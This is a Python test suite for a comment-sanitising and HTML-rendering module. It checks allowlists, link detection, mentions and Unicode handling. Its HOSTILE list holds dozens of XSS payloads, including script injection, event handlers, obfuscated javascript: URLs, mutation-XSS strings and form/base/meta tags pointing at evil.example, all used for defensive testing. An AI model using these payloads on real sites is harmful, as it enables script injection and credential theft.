"""What people write shows as they wrote it, and does nothing else."""

import re
from html import unescape

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kit.text import (
    ATTRIBUTES,
    SCHEMES,
    TAGS,
    clean_html,
    clean_source,
    excerpt,
    is_blank,
    one_line,
    to_html,
    to_source,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=a()>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='javascript\u200b:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<b class=mention data-person=1 onmouseover=alert(1)>@x</b>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><a href='http://a.example'><p></a><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '"><script>alert(1)</script>',
    "<<script>alert(1)//<</script>",
    "</p></div></article><h1>x",
    "<a href=http://a.example target=_blank rel=opener>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ csrf_token }} {% load x %}",
]


def second_opinion(html):
    """What nh3 leaves of ``html`` under the same allowlist."""
    return nh3.clean(
        html,
        tags=set(TAGS),
        attributes={tag: set(names) for tag, names in ATTRIBUTES.items()},
        url_schemes=set(SCHEMES),
        link_rel=None,
    )


def words(html):
    """What a person reads: tags gone, line breaks and paragraphs as line ends."""
    text = html.replace("<br>", "\n").replace('</p><p dir="auto">', "\n\n")
    return unescape(re.sub(r"<[^>]*>", "", text))


def without_turning(text):
    return re.sub("[\u202a-\u202e\u2066-\u2069]", "", text)


def elements(html):
    return re.findall(r"<\s*/?\s*([a-zA-Z!?][^\s/>]*)", html)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_written_as_a_comment_is_only_text(hostile):
    html = to_html(clean_source(hostile))

    assert set(elements(html)) <= {"p", "a", "br"}
    assert words(html) == clean_source(hostile)
    assert second_opinion(html) == html


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_allowlist_leaves_nothing_that_a_second_cleaner_would_cut(hostile):
    html = clean_html(hostile)

    assert set(elements(html)) <= set(TAGS)
    assert not re.search(r"<[^>]*\b(on\w+|style|target|src)\s*=", html)
    for target in re.findall(r'href="([^"]*)"', html):
        assert target.split(":")[0] in SCHEMES or target.startswith("//")
    assert second_opinion(html).count("<") == html.count("<")


@given(st.text(max_size=300))
def test_every_text_reads_as_it_was_written(text):
    source = clean_source(text)
    assert words(to_html(source)) == without_turning(source)


@given(
    st.text(
        alphabet=st.sampled_from(
            [*"<>&\"'/=@:;.#()[]wht ps\n\tamil", "，", "昇", "\u202e", "\u200d"]
        ),
        max_size=120,
    )
)
def test_no_mixture_of_marks_makes_an_element_or_loses_a_letter(text):
    source = clean_source(text)
    html = to_html(source)
    assert words(html) == without_turning(source)
    assert set(elements(html)) <= {"p", "a", "br"}
    assert second_opinion(html) == html


@given(st.text(max_size=200))
def test_cleaning_twice_is_cleaning_once(text):
    assert clean_source(clean_source(text)) == clean_source(text)


@given(st.text(max_size=200))
def test_what_was_made_html_goes_back_to_its_writer(text):
    html = to_html(clean_source(text))
    assert to_html(to_source(html)) == html


def test_paragraphs_and_line_breaks_are_kept():
    assert to_html("一\n二\n\n三") == '<p dir="auto">一<br>二</p><p dir="auto">三</p>'


@pytest.mark.parametrize(
    ("text", "target", "rest"),
    [
        ("见https://example.cn/a?b=1。谢谢", "https://example.cn/a?b=1", "。谢谢"),
        ("(https://example.cn/x)", "https://example.cn/x", ")"),
        ("https://example.cn/wiki/A_(b)", "https://example.cn/wiki/A_(b)", ""),
        ("https://example.cn/路径", "https://example.cn/", "路径"),
        ("https://example.cn/, ok", "https://example.cn/", ", ok"),
        ("（www.example.cn）", "https://www.example.cn", "）"),
        ("写信到 lin@example.cn，好吗", "mailto:lin@example.cn", "，好吗"),
        ("HTTP://EXAMPLE.CN/", "HTTP://EXAMPLE.CN/", ""),
    ],
)
def test_a_link_stops_where_the_sentence_goes_on(text, target, rest):
    html = to_html(text)
    assert f'<a href="{target}" rel="noopener nofollow">' in html
    assert html.endswith(f"</a>{rest}</p>")


@pytest.mark.parametrize(
    "text", ["javascript:alert(1)", "ftp://example.cn", "data:text/html,x", "http://", "http://["]
)
def test_other_schemes_are_no_links(text):
    assert "<a" not in to_html(text)


def test_an_address_with_quotation_marks_cannot_leave_its_attribute():
    html = to_html("https://example.cn/'onmouseover='alert(1)&x=<b>")
    assert re.findall(r"<a ([a-z]+)=", html) == ["href"]
    assert "onmouseover=" not in re.sub(r'"[^"]*"|>[^<]*<', "", html)
    assert second_opinion(html) == html.replace("&#x27;", "'")


def test_a_mention_is_marked_with_its_person():
    html = to_html("请@林晓雨看", [(1, 5, 12)])
    assert html == '<p dir="auto">请<b class="mention" data-person="12">@林晓雨</b>看</p>'


@pytest.mark.parametrize(
    "text", ["𬭩与昇", "👩‍🏫🇨🇳❤️", "שלום \u200fabc", "e\u0301", "می\u200cخواهم"]
)
def test_rare_characters_emoji_and_marks_survive(text):
    assert clean_source(text) == text
    assert words(to_html(text)) == text


def test_overrides_cannot_garble_what_stands_beside():
    written = "\u202egnp.exe\u2066x"
    assert clean_source(written) == written
    assert words(to_html(written)) == "gnp.exex"
    assert one_line(written) == "gnp.exex"


def test_control_characters_are_dropped_and_line_ends_made_one():
    assert clean_source("a\x00b\x07\r\nc\rd\u2028e\x7f\x9f\ud800\ufffe") == "ab\nc\nd\ne"


def test_no_more_than_one_blank_line_in_a_row_is_kept():
    assert clean_source("\n a \n\n \n\nb\t\n") == "a \n\nb"


@pytest.mark.parametrize(
    "text", ["", "  \n\t", "\u200b\u200d\ufeff", "\u202e\u200f", "\u3164\u2800\ufe0f"]
)
def test_a_text_that_shows_nothing_is_blank(text):
    assert is_blank(clean_source(text))


@pytest.mark.parametrize("text", ["。", "0", "👍", "𬭩", "\u200bx"])
def test_a_text_that_shows_anything_is_not_blank(text):
    assert not is_blank(text)


def test_an_excerpt_is_one_short_line():
    assert excerpt("一\n\n二  三") == "一 二 三"
    assert excerpt("字" * 100, 10) == "字" * 9 + "…"
